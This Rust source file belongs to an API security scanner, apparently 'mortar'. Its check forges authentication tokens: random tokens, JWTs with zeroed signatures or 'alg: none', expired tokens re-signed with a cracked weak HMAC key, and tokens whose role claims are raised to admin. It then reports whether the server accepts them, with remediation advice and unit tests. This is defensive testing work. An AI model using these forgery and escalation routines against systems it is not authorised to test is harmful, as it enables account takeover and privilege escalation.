//! `authentication.forged-token-accepted`: an identity's credential replaced
//! by one mortar made up, and the operation still answers with the
//! identity's data.
//!
//! The operations tested are the ones the reachability sweep shows refusing
//! a caller without the credential (a 4xx other than 429) and serving the
//! identity (2xx). The forgeries, each a separate finding:
//! - a random token in place of the credential (the server checks only that
//!   one is present);
//! - for a JWT: its header and claims with a zeroed signature (signatures
//!   not verified), the claims under `alg: none` (spelled four ways) with no
//!   signature, and, when the token's HMAC key is one of the weak secrets
//!   `authentication.jwt-weaknesses` knows, the claims re-signed with an
//!   `exp` two days in the past (expiry not enforced).
//!
//! A forgery is accepted only when the answer is 2xx and carries the
//! identity's own data (the same body, or every distinctive value of it):
//! a 200 with an error page proves nothing. When the identity holds other
//! credentials too (a client certificate, other headers), the control is
//! the identity without this credential, sent here, not the anonymous sweep.
//! Safe methods only, unless the profile is active.

use crate::check::{Check, CheckVerdict};
use crate::context::{Reporter, ScanContext};
use crate::probes::json::{is_empty_json, leaves, normalized, reads_as_refusal};
use crate::probes::jwt::{Jwt, find_jwts, parse};
use crate::probes::jwt_dictionary::hmac_key;
use crate::probes::spec::answered;
use base64::Engine as _;
use hmac::{Hmac, Mac};
use mortar_engine::Exchange;
use mortar_model::{
    Category, CheckInfo, Confidence, Endpoint, Identity, Observation, Profile, References, Remediation, Severity,
};
use serde_json::{Map, Value};
use std::sync::Arc;

/// The check.
pub static CHECK: Check = Check {
    info: CheckInfo {
        id: "authentication.forged-token-accepted",
        category: Category::Authentication,
        severity: Severity::Critical,
        profile: Profile::Standard,
        title: "Forged or expired token accepted",
        description: "On operations that refuse callers without a credential and serve an identity, replaces \
            the identity's token with forgeries: a random token, and for a JWT its claims with a zeroed \
            signature, under `alg: none`, and (when its HMAC key is a known weak secret) re-signed with an \
            expiry in the past. A forgery is reported only when the answer carries the identity's own data; \
            the refused request without the credential is the control. With a cracked HMAC key, the claims that \
            say what the bearer may do (role, roles, groups, scopes, admin flags) are raised to admin and the \
            token re-signed; reported when an operation that refused the identity's own token (401/403, or a 2xx \
            refusal message) serves data to it. Safe methods only outside the active profile; at most 3 \
            operations per forgery.",
        remediation: Remediation {
            summary: "Verify every token fully before trusting it: the signature with a key and algorithm fixed \
                on the server (never the token's own `alg`), the expiry, and for opaque tokens a lookup in the \
                session store; refuse with 401 otherwise.",
            actix_web: "Validate in one middleware on the protected scope (e.g. actix-web-httpauth's \
                `HttpAuthentication::bearer(validator)`), with `jsonwebtoken::decode(token, &key, \
                &Validation::new(Algorithm::HS256))`: the algorithm list is fixed, `none` is never accepted and \
                `exp` is checked by default; for opaque tokens look the token up and reject unknown ones.",
            axum: "Decode in a `FromRequestParts` extractor (or a `middleware::from_fn` layer on the protected \
                Router) with `jsonwebtoken::decode` and `Validation::new(Algorithm::HS256)` (fixed algorithm, \
                `exp` required); for opaque tokens look the token up in the session store and return \
                `StatusCode::UNAUTHORIZED` when it is unknown.",
        },
        references: References { owasp_api: &["API2:2023"], cwe: &["CWE-287", "CWE-347", "CWE-613"] },
    },
    module: module_path!(),
    run: |ctx, reporter| Box::pin(run(ctx, reporter)),
};

/// Operations tried per forgery.
const MAX_OPERATIONS: usize = 3;

/// How `alg: none` is spelled by attackers (verifiers compare it in different ways).
const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

/// The credential of an identity that the forgeries replace.
#[derive(Debug, Clone)]
struct Credential {
    /// The header carrying it.
    header: String,
    /// The header's whole value (e.g. `Bearer <token>`).
    value: String,
    /// The token inside the value.
    token: String,
    /// The token decoded, when it is a JWT.
    jwt: Option<Jwt>,
    /// The shell variable a reproduce command reads the real value from.
    placeholder: String,
}

/// Header names whose whole value is an opaque credential.
const KEY_HEADERS: &[&str] = &["x-api-key", "api-key", "x-auth-token", "x-access-token"];

fn credential(identity: &Identity) -> Option<Credential> {
    let mut headers: Vec<(String, String)> = identity
        .headers
        .iter()
        .map(|h| (h.name.clone(), String::from_utf8_lossy(h.value.expose()).into_owned()))
        .collect();
    headers.extend(identity.session_header().map(|(n, v)| (n, String::from_utf8_lossy(&v).into_owned())));
    let make = |(header, value): &(String, String), token: &str, jwt| Credential {
        header: header.clone(),
        value: value.clone(),
        token: token.to_string(),
        jwt,
        placeholder: identity.placeholder(header),
    };
    if let Some((pair, token)) = headers.iter().find_map(|p| find_jwts(&p.1).into_iter().next().map(|t| (p, t))) {
        return Some(make(pair, &token, parse(&token)));
    }
    headers.iter().find_map(|pair| {
        let name = pair.0.to_ascii_lowercase();
        let token = if name == "authorization" {
            pair.1.split_once(' ').map_or(pair.1.as_str(), |(_, t)| t.trim())
        } else if KEY_HEADERS.contains(&name.as_str()) {
            pair.1.trim()
        } else {
            return None;
        };
        (token.len() >= 8).then(|| make(pair, token, None))
    })
}

/// One made-up credential.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Forgery<'k> {
    RandomToken,
    ZeroedSignature,
    AlgNone(&'static str),
    /// Re-signed with the token's HMAC key, found by the key search.
    Expired(&'k str),
}

impl Forgery<'_> {
    /// Part of the finding id: one finding per kind of forgery.
    fn component(self) -> &'static str {
        match self {
            Forgery::RandomToken => "random-token",
            Forgery::ZeroedSignature => "jwt-signature",
            Forgery::AlgNone(_) => "jwt-alg-none",
            Forgery::Expired(_) => "jwt-expired",
        }
    }

    fn severity(self) -> Severity {
        match self {
            Forgery::Expired(_) => Severity::High,
            _ => Severity::Critical,
        }
    }

    fn title(self) -> &'static str {
        match self {
            Forgery::RandomToken => "Any token accepted: the credential is not verified",
            Forgery::ZeroedSignature => "JWT signature not verified",
            Forgery::AlgNone(_) => "Unsigned JWT accepted (alg: none)",
            Forgery::Expired(_) => "Expired JWT accepted",
        }
    }

    /// What the forged token is, for the description and the evidence.
    fn what(self, credential: &Credential) -> String {
        let var = format!("${}", credential.placeholder);
        match self {
            Forgery::RandomToken => "a random string of the token's alphabet in place of the token".into(),
            Forgery::ZeroedSignature => {
                format!("the header and claims of the JWT in {var} with a signature of zero bytes")
            }
            Forgery::AlgNone(alg) => {
                format!(
                    "the claims of the JWT in {var} under the header {{\"alg\":\"{alg}\",\"typ\":\"JWT\"}} and no signature"
                )
            }
            Forgery::Expired(secret) => format!(
                "the claims of the JWT in {var} with `exp` two days in the past, re-signed with its own algorithm \
                 and the weak key \"{secret}\""
            ),
        }
    }
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn now_secs() -> i64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs() as i64).unwrap_or_default()
}

/// A token of the original's length and alphabet that no server issued.
fn random_token(original: &str) -> String {
    use sha2::Digest;
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0);
    let mut out = String::new();
    let mut round = 0u32;
    while out.len() < original.len().max(16) {
        let digest = sha2::Sha256::digest(format!("mortar-forged-{nanos}-{round}").as_bytes());
        out.push_str(&b64(&digest).replace(['-', '_'], "x"));
        round += 1;
    }
    out.truncate(original.len().max(16));
    out
}

fn hmac_sign(alg: &str, key: &[u8], input: &str) -> Option<Vec<u8>> {
    fn mac<M: Mac + hmac::digest::KeyInit>(key: &[u8], input: &str) -> Option<Vec<u8>> {
        let mut mac = <M as hmac::digest::KeyInit>::new_from_slice(key).ok()?;
        mac.update(input.as_bytes());
        Some(mac.finalize().into_bytes().to_vec())
    }
    match alg {
        "HS256" => mac::<Hmac<sha2::Sha256>>(key, input),
        "HS384" => mac::<Hmac<sha2::Sha384>>(key, input),
        "HS512" => mac::<Hmac<sha2::Sha512>>(key, input),
        _ => None,
    }
}

/// The forged token, or `None` when this forgery does not apply to the credential.
fn forge(credential: &Credential, forgery: Forgery) -> Option<String> {
    let jwt = credential.jwt.as_ref();
    match forgery {
        Forgery::RandomToken => Some(random_token(&credential.token)),
        Forgery::ZeroedSignature => {
            let jwt = jwt?;
            let zeros = vec![0u8; jwt.signature.len().max(32)];
            Some(format!("{}.{}", jwt.signing_input, b64(&zeros)))
        }
        Forgery::AlgNone(alg) => {
            let payload = jwt?.signing_input.split_once('.')?.1;
            let header = b64(format!("{{\"alg\":\"{alg}\",\"typ\":\"JWT\"}}").as_bytes());
            Some(format!("{header}.{payload}."))
        }
        Forgery::Expired(secret) => {
            let jwt = jwt?;
            let mut claims: Map<String, Value> = jwt.claims.clone();
            let now = now_secs();
            claims.insert("exp".into(), Value::from(now - 2 * 86_400));
            if claims.contains_key("iat") {
                claims.insert("iat".into(), Value::from(now - 3 * 86_400));
            }
            if claims.contains_key("nbf") {
                claims.insert("nbf".into(), Value::from(now - 3 * 86_400));
            }
            let header = jwt.signing_input.split_once('.')?.0;
            let input = format!("{header}.{}", b64(Value::Object(claims).to_string().as_bytes()));
            let signature = hmac_sign(jwt.alg(), secret.as_bytes(), &input)?;
            Some(format!("{input}.{}", b64(&signature)))
        }
    }
}

/// The forgeries that apply to a credential, strongest proof first: once the
/// signature is not checked at all, `alg: none` and expiry add nothing.
fn forgeries<'k>(credential: &Credential, hmac_key: Option<&'k str>) -> Vec<Forgery<'k>> {
    let mut out = vec![Forgery::RandomToken];
    if let Some(jwt) = &credential.jwt {
        out.push(Forgery::ZeroedSignature);
        if !jwt.alg().eq_ignore_ascii_case("none") {
            out.extend(NONE_SPELLINGS.iter().map(|a| Forgery::AlgNone(a)));
        }
        if let Some(secret) = hmac_key {
            out.push(Forgery::Expired(secret));
        }
    }
    out
}

/// A shell expression that rebuilds the forged value from the real one at
/// reproduction time, so that no usable token is written in the report.
fn shell_value(credential: &Credential, forgery: Forgery, forged: &str) -> String {
    let var = &credential.placeholder;
    let signed = format!("$(printf %s \"${var}\" | grep -oE 'eyJ[A-Za-z0-9_-]*\\.[A-Za-z0-9_-]+' | head -n1)");
    let token = match forgery {
        Forgery::RandomToken => forged.to_string(),
        Forgery::ZeroedSignature => format!("{signed}.{}", forged.rsplit('.').next().unwrap_or_default()),
        Forgery::AlgNone(_) => {
            let header = forged.split('.').next().unwrap_or_default();
            format!(
                "{header}.$(printf %s \"${var}\" | grep -oE 'eyJ[A-Za-z0-9_-]*\\.[A-Za-z0-9_-]+' | head -n1 | cut -d. -f2)."
            )
        }
        Forgery::Expired(_) => "$MORTAR_FORGED_EXPIRED_JWT".to_string(),
    };
    let escape = |s: &str| s.replace('\\', "\\\\").replace('"', "\\\"").replace('$', "\\$").replace('`', "\\`");
    let (before, after) = credential.value.split_once(&credential.token).unwrap_or(("", ""));
    format!("{}{token}{}", escape(before), escape(after))
}

/// The identity without the credential: the control, and the base of the reproduce command.
fn without(identity: &Identity, credential: &Credential) -> Identity {
    let mut stripped = identity.clone();
    stripped.headers.retain(|h| !h.name.eq_ignore_ascii_case(&credential.header));
    if stripped.login.as_ref().is_some_and(|l| l.apply_header.eq_ignore_ascii_case(&credential.header)) {
        stripped.login = None;
    }
    stripped
}

fn holds_other_credentials(stripped: &Identity) -> bool {
    !stripped.headers.is_empty()
        || stripped.client_cert.is_some()
        || stripped.login.is_some()
        || stripped.signing.is_some()
}

fn refused(status: u16) -> bool {
    (400..500).contains(&status) && status != 429
}

fn ok(ex: &Exchange) -> bool {
    (200..300).contains(&ex.response.status)
}

/// Whether `forged` carries the identity's own answer.
fn same_data(genuine: &Exchange, forged: &Exchange) -> bool {
    if !ok(forged) {
        return false;
    }
    if forged.response.body == genuine.response.body {
        return true;
    }
    let mut expected = std::collections::BTreeSet::new();
    leaves(&genuine.response.body, &mut expected);
    let mut got = std::collections::BTreeSet::new();
    leaves(&forged.response.body, &mut got);
    !expected.is_empty() && expected.is_subset(&got)
}

/// An operation the identity reaches and a caller without the credential does not.
struct Target {
    endpoint: Endpoint,
    genuine: Arc<Exchange>,
    control: Arc<Exchange>,
}

async fn run(ctx: Arc<ScanContext>, reporter: Reporter) -> CheckVerdict {
    let with_credential: Vec<(Arc<Identity>, Credential)> =
        ctx.identities.iter().filter_map(|i| credential(i).map(|c| (i.clone(), c))).collect();
    if with_credential.is_empty() {
        return CheckVerdict::Skipped("no identity carries a bearer token, API key or JWT to forge".into());
    }
    let sweep = ctx.reachability(CHECK.info.id).await;
    let mut tried = 0usize;
    let mut operations = 0usize;
    let mut found = std::collections::BTreeSet::new();
    let mut expiry_untested = false;
    for (identity, credential) in &with_credential {
        let stripped = Arc::new(without(identity, credential));
        let mut targets = Vec::new();
        // Operations that refused the identity: where a raised role would show.
        let mut denied_to_identity: Vec<(Endpoint, Arc<Exchange>)> = Vec::new();
        for op in ctx.operations.iter().filter(|o| o.is_safe() || ctx.settings.profile == Profile::Active) {
            if targets.len() >= MAX_OPERATIONS {
                break;
            }
            let Some(reaches) = sweep.get(&op.endpoint) else { continue };
            if let Some((_, denied)) = answered(reaches).find(|(r, _)| r.identity == identity.name)
                && denied.request.method == op.endpoint.method
                && (refused(denied.response.status) || (ok(denied) && reads_as_refusal(&denied.response.body)))
                && denied_to_identity.len() < MAX_OPERATIONS
            {
                denied_to_identity.push((op.endpoint.clone(), denied.clone()));
            }
            let Some((_, genuine)) = answered(reaches).find(|(r, ex)| r.identity == identity.name && ok(ex)) else {
                continue;
            };
            if genuine.request.method != op.endpoint.method {
                continue;
            }
            let Some((_, anonymous)) = answered(reaches).find(|(r, _)| r.identity == "anonymous") else { continue };
            if !refused(anonymous.response.status) {
                continue;
            }
            let control = if holds_other_credentials(&stripped) {
                let request = ctx.request(&op.endpoint.method, &op.endpoint).identity(Some(stripped.clone()));
                match ctx.send(CHECK.info.id, Some(&op.endpoint), request).await {
                    Ok(ex) if refused(ex.response.status) => Arc::new(ex),
                    _ => continue,
                }
            } else {
                anonymous.clone()
            };
            targets.push(Target { endpoint: op.endpoint.clone(), genuine: genuine.clone(), control });
        }
        operations = operations.max(targets.len());
        let key = match &credential.jwt {
            Some(jwt) if !targets.is_empty() || !denied_to_identity.is_empty() => {
                hmac_key(&ctx, jwt).await.and_then(|search| search.key)
            }
            _ => None,
        };
        if let (Some(jwt), Some(secret)) = (&credential.jwt, key.as_deref())
            && let Some((elevated, raised)) = elevate(jwt, secret)
        {
            let value = credential.value.replacen(&credential.token, &elevated, 1);
            for (endpoint, denied) in &denied_to_identity {
                let request = ctx
                    .request(&endpoint.method, endpoint)
                    .identity(Some(identity.clone()))
                    .header(credential.header.clone(), value.clone().into_bytes());
                tried += 1;
                let Ok(ex) = ctx.send(CHECK.info.id, Some(endpoint), request).await else { continue };
                if serves_data_refused_before(denied, &ex) {
                    let found = Elevation { endpoint, denied, accepted: &ex, secret, raised: &raised };
                    report_elevation(&ctx, &reporter, identity, credential, &stripped, &elevated, found);
                    break;
                }
            }
        }
        if targets.is_empty() {
            continue;
        }
        if credential.jwt.is_some() && key.is_none() {
            expiry_untested = true;
        }
        for forgery in forgeries(credential, key.as_deref()) {
            if found.contains(forgery.component())
                || (found.contains("jwt-signature") && forgery != Forgery::RandomToken)
            {
                continue;
            }
            let Some(forged) = forge(credential, forgery) else { continue };
            let value = credential.value.replacen(&credential.token, &forged, 1);
            for target in &targets {
                let request = ctx
                    .request(&target.endpoint.method, &target.endpoint)
                    .identity(Some(identity.clone()))
                    .header(credential.header.clone(), value.clone().into_bytes());
                tried += 1;
                let Ok(ex) = ctx.send(CHECK.info.id, Some(&target.endpoint), request).await else { continue };
                if !same_data(&target.genuine, &ex) {
                    continue;
                }
                found.insert(forgery.component());
                report(&ctx, &reporter, identity, credential, &stripped, forgery, &forged, target, &ex);
                break;
            }
        }
    }
    if tried == 0 {
        return CheckVerdict::Skipped(
            "no operation both refused a caller without the credential and served an identity".into(),
        );
    }
    let mut text =
        format!("{tried} forged credential(s) sent to {operations} operation(s) that refuse callers without one");
    if expiry_untested {
        text.push_str(
            "; expiry not tested (the JWT's key is not a known weak secret, so no expired token could be made)",
        );
    }
    CheckVerdict::Ran(text)
}

/// The JWT re-signed with `secret` and every claim that says what the bearer
/// may do raised (a role to `admin`, an admin flag to true, `admin` added to
/// roles, groups and scopes); `None` when it has no such claim. Returns the
/// token and the claims raised.
fn elevate(jwt: &Jwt, secret: &str) -> Option<(String, Vec<String>)> {
    let mut claims: Map<String, Value> = jwt.claims.clone();
    let mut raised = Vec::new();
    for (name, value) in &jwt.claims {
        let new = match (normalized(name).as_str(), value) {
            ("role" | "userrole" | "usertype" | "accesslevel" | "group", Value::String(s))
                if !s.eq_ignore_ascii_case("admin") =>
            {
                Value::from("admin")
            }
            ("roles" | "groups" | "permissions" | "authorities", Value::Array(items)) => {
                let mut items = items.clone();
                items.push(Value::from("admin"));
                Value::Array(items)
            }
            ("admin" | "isadmin" | "superuser" | "issuperuser" | "isstaff" | "staff", Value::Bool(false)) => {
                Value::Bool(true)
            }
            ("scope" | "scp", Value::String(s)) => Value::from(format!("{s} admin")),
            _ => continue,
        };
        claims.insert(name.clone(), new);
        raised.push(name.clone());
    }
    if raised.is_empty() {
        return None;
    }
    let header = jwt.signing_input.split_once('.')?.0;
    let input = format!("{header}.{}", b64(Value::Object(claims).to_string().as_bytes()));
    let signature = hmac_sign(jwt.alg(), secret.as_bytes(), &input)?;
    Some((format!("{input}.{}", b64(&signature)), raised))
}

/// Whether `accepted` serves data where `denied` (the genuine token's
/// answer) was a refusal: a 2xx with a JSON body that holds something, does
/// not read as a refusal, and is not the refusal's body.
fn serves_data_refused_before(denied: &Exchange, accepted: &Exchange) -> bool {
    ok(accepted)
        && !reads_as_refusal(&accepted.response.body)
        && accepted.response.body != denied.response.body
        && serde_json::from_slice::<Value>(&accepted.response.body).is_ok_and(|v| !is_empty_json(&v))
}

/// A raised-role token accepted where the genuine one was refused.
struct Elevation<'a> {
    endpoint: &'a Endpoint,
    denied: &'a Exchange,
    accepted: &'a Exchange,
    secret: &'a str,
    raised: &'a [String],
}

fn report_elevation(
    ctx: &ScanContext,
    reporter: &Reporter,
    identity: &Identity,
    credential: &Credential,
    stripped: &Arc<Identity>,
    forged: &str,
    found: Elevation,
) {
    let claims = found.raised.iter().map(|c| format!("`{c}`")).collect::<Vec<_>>().join(", ");
    let what = format!(
        "the claims of the JWT in ${} with {claims} raised to admin, re-signed with the weak key \"{}\"",
        credential.placeholder, found.secret
    );
    let mut accepted = ctx.evidence(found.accepted, format!("Sent with {what}; served."));
    for (name, value) in &mut accepted.request.headers {
        if name.eq_ignore_ascii_case(&credential.header) {
            *value = format!("<forged: {what}>");
        }
    }
    if let Some(body) = accepted.response.as_mut().and_then(|r| r.body.as_mut()) {
        body.content = body.content.replace(forged, "<forged token>");
    }
    let mut reproduce = ctx.curl(&ctx.request(&found.endpoint.method, found.endpoint).identity(Some(stripped.clone())));
    reproduce.push_str(&format!(" -H \"{}: $MORTAR_FORGED_ELEVATED_JWT\"", credential.header));
    reporter.observe(Observation {
        endpoint: Some(found.endpoint.clone()),
        component: Some("jwt-forged-privilege".to_string()),
        severity: Some(Severity::Critical),
        confidence: Confidence::Confirmed,
        title: Some("JWT forged with the cracked key and a raised role accepted".to_string()),
        description: format!(
            "{} {} refused identity `{}` ({}). With {what} it answered HTTP {} with data: anyone who knows \
             the key mints a token with any role and the server trusts it. To reproduce, set \
             MORTAR_FORGED_ELEVATED_JWT to such a token (e.g. with jwt.io or `jsonwebtoken`).",
            found.endpoint.method,
            found.endpoint.path,
            identity.name,
            if ok(found.denied) {
                format!("HTTP {} with a refusal message", found.denied.response.status)
            } else {
                format!("HTTP {}", found.denied.response.status)
            },
            found.accepted.response.status,
        ),
        evidence: vec![ctx.evidence(found.denied, "The identity's own token: refused."), accepted],
        reproduce,
    });
}

#[allow(clippy::too_many_arguments)]
fn report(
    ctx: &ScanContext,
    reporter: &Reporter,
    identity: &Identity,
    credential: &Credential,
    stripped: &Arc<Identity>,
    forgery: Forgery,
    forged: &str,
    target: &Target,
    accepted: &Exchange,
) {
    let what = forgery.what(credential);
    let mut forged_evidence = ctx.evidence(accepted, format!("Sent with {what}; answered with the identity's data."));
    for (name, value) in &mut forged_evidence.request.headers {
        if name.eq_ignore_ascii_case(&credential.header) {
            *value = format!("<forged: {what}>");
        }
    }
    // A server that echoes the token would put the forgery (a working
    // credential where it is accepted) in the report: it is masked too.
    if let Some(body) = forged_evidence.response.as_mut().and_then(|r| r.body.as_mut()) {
        let signed_part = forged.rsplit_once('.').map_or(forged, |(head, _)| head);
        for text in [forged, signed_part] {
            if text.len() >= 8 {
                body.content = body.content.replace(text, "<forged token>");
            }
        }
    }
    let control_note = "The same operation without the credential was refused (the control).";
    let mut reproduce =
        ctx.curl(&ctx.request(&target.endpoint.method, &target.endpoint).identity(Some(stripped.clone())));
    reproduce.push_str(&format!(" -H \"{}: {}\"", credential.header, shell_value(credential, forgery, forged)));
    let expired_recipe = match forgery {
        Forgery::Expired(secret) => format!(
            " To reproduce, set MORTAR_FORGED_EXPIRED_JWT to such a token (e.g. with jwt.io or `jsonwebtoken`, \
             key \"{secret}\")."
        ),
        _ => String::new(),
    };
    reporter.observe(Observation {
        endpoint: Some(target.endpoint.clone()),
        component: Some(forgery.component().to_string()),
        severity: Some(forgery.severity()),
        confidence: Confidence::Confirmed,
        title: Some(forgery.title().to_string()),
        description: format!(
            "{} {} refused a request without {}'s credential (HTTP {}) and served it to identity `{}` (HTTP {}). \
             With {what} it answered HTTP {} with the identity's own data: the server does not verify {}.{expired_recipe}",
            target.endpoint.method,
            target.endpoint.path,
            identity.name,
            target.control.response.status,
            identity.name,
            target.genuine.response.status,
            accepted.response.status,
            match forgery {
                Forgery::RandomToken => "the token at all",
                Forgery::ZeroedSignature => "JWT signatures",
                Forgery::AlgNone(_) => "that a JWT is signed (it honours the token's own `alg`)",
                Forgery::Expired(_) => "JWT expiry",
            }
        ),
        evidence: vec![ctx.evidence(&target.control, control_note), forged_evidence],
        reproduce,
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probes::jwt_dictionary::search_key;
    use mortar_model::{IdentityHeader, Secret};

    fn jwt_identity(token: &str) -> Identity {
        let mut id = Identity::new("alice");
        id.headers.push(IdentityHeader { name: "Authorization".into(), value: Secret::new(format!("Bearer {token}")) });
        id
    }

    fn mint(claims: &str, key: &str) -> String {
        let input = format!("{}.{}", b64(br#"{"alg":"HS256","typ":"JWT"}"#), b64(claims.as_bytes()));
        let sig = hmac_sign("HS256", key.as_bytes(), &input).unwrap_or_default();
        format!("{input}.{}", b64(&sig))
    }

    #[test]
    fn a_jwt_credential_gets_every_forgery_and_a_weak_key_adds_expiry() {
        let token = mint(r#"{"sub":"alice","exp":4102444800}"#, "secret");
        let cred = credential(&jwt_identity(&token)).expect("credential");
        assert_eq!(cred.token, token);
        let key = |cred: &Credential| search_key(cred.jwt.as_ref().expect("a JWT"), &[]).and_then(|s| s.key);
        let weak_key = key(&cred);
        let kinds = forgeries(&cred, weak_key.as_deref());
        assert!(kinds.contains(&Forgery::ZeroedSignature) && kinds.contains(&Forgery::AlgNone("none")));
        assert!(kinds.contains(&Forgery::Expired("secret")));
        let strong =
            credential(&jwt_identity(&mint(r#"{"sub":"alice"}"#, "a-long-random-key-nobody-guesses-0192837465")))
                .expect("credential");
        let strong_key = key(&strong);
        assert_eq!(strong_key, None);
        assert!(!forgeries(&strong, strong_key.as_deref()).iter().any(|f| matches!(f, Forgery::Expired(_))));
    }

    #[test]
    fn a_cracked_key_mints_a_token_with_raised_claims_only_where_there_are_some() {
        let token =
            mint(r#"{"id":7,"role":"customer","groups":["staff"],"is_admin":false,"exp":4102444800}"#, "Fleet2024");
        let jwt = parse(&token).expect("parses");
        let (elevated, raised) = elevate(&jwt, "Fleet2024").expect("role claims");
        assert_eq!(raised, vec!["groups", "is_admin", "role"]);
        let elevated = parse(&elevated).expect("parses");
        assert_eq!(elevated.claims["role"], serde_json::json!("admin"));
        assert_eq!(elevated.claims["groups"], serde_json::json!(["staff", "admin"]));
        assert_eq!(elevated.claims["is_admin"], serde_json::json!(true));
        assert_eq!(elevated.claims["id"], serde_json::json!(7), "who it is stays");
        let plain = parse(&mint(r#"{"sub":"ana"}"#, "Fleet2024")).expect("parses");
        assert!(elevate(&plain, "Fleet2024").is_none(), "nothing to raise");
        let refusal =
            crate::probes::fixture::exchange("http://127.0.0.1/a", 200, &[], r#"{"error":"Not Admin, try again"}"#);
        let data = crate::probes::fixture::exchange("http://127.0.0.1/a", 200, &[], r#"[{"id":1,"email":"a@b.c"}]"#);
        assert!(serves_data_refused_before(&refusal, &data));
        assert!(!serves_data_refused_before(&refusal, &refusal));
    }

    #[test]
    fn forgeries_keep_the_claims_and_change_what_they_say() {
        let token = mint(r#"{"sub":"alice","iat":1700000000,"exp":4102444800}"#, "secret");
        let cred = credential(&jwt_identity(&token)).expect("credential");
        let none = parse(&forge(&cred, Forgery::AlgNone("None")).expect("none")).expect("parses");
        assert_eq!(none.alg(), "None");
        assert_eq!(none.claims.get("sub"), Some(&Value::from("alice")));
        assert!(none.signature.is_empty());
        let zeroed = parse(&forge(&cred, Forgery::ZeroedSignature).expect("zeroed")).expect("parses");
        assert!(
            zeroed.signature.iter().all(|b| *b == 0) && zeroed.signing_input == parse(&token).expect("t").signing_input
        );
        let expired = parse(&forge(&cred, Forgery::Expired("secret")).expect("expired")).expect("parses");
        let exp = expired.claims.get("exp").and_then(Value::as_i64).expect("exp");
        assert!(exp < now_secs() - 86_400);
        assert_eq!(search_key(&expired, &[]).and_then(|s| s.key).as_deref(), Some("secret"), "re-signed with the key");
        let random = forge(&cred, Forgery::RandomToken).expect("random");
        assert_eq!(random.len(), token.len());
        assert_ne!(random, token);
    }

    #[test]
    fn opaque_tokens_and_api_keys_are_credentials_other_headers_are_not() {
        let mut id = Identity::new("svc");
        id.headers.push(IdentityHeader { name: "X-Api-Key".into(), value: Secret::new("k-1234567890abcdef") });
        let cred = credential(&id).expect("api key");
        assert_eq!((cred.header.as_str(), cred.token.as_str()), ("X-Api-Key", "k-1234567890abcdef"));
        assert_eq!(forgeries(&cred, None), vec![Forgery::RandomToken]);
        let mut other = Identity::new("x");
        other.headers.push(IdentityHeader { name: "X-Tenant".into(), value: Secret::new("acme-corporation") });
        assert!(credential(&other).is_none());
    }

    #[test]
    fn reproduce_values_rebuild_the_forgery_from_the_variable_without_the_token() {
        let token = mint(r#"{"sub":"alice"}"#, "k3y-long-enough-to-not-be-weak-0000");
        let cred = credential(&jwt_identity(&token)).expect("credential");
        let forged = forge(&cred, Forgery::AlgNone("none")).expect("none");
        let shell = shell_value(&cred, Forgery::AlgNone("none"), &forged);
        assert!(shell.starts_with("Bearer eyJ") && shell.contains("$MORTAR_ALICE_AUTHORIZATION"));
        let payload = token.split('.').nth(1).expect("payload");
        assert!(!shell.contains(payload), "the claims come from the variable: {shell}");
    }
}
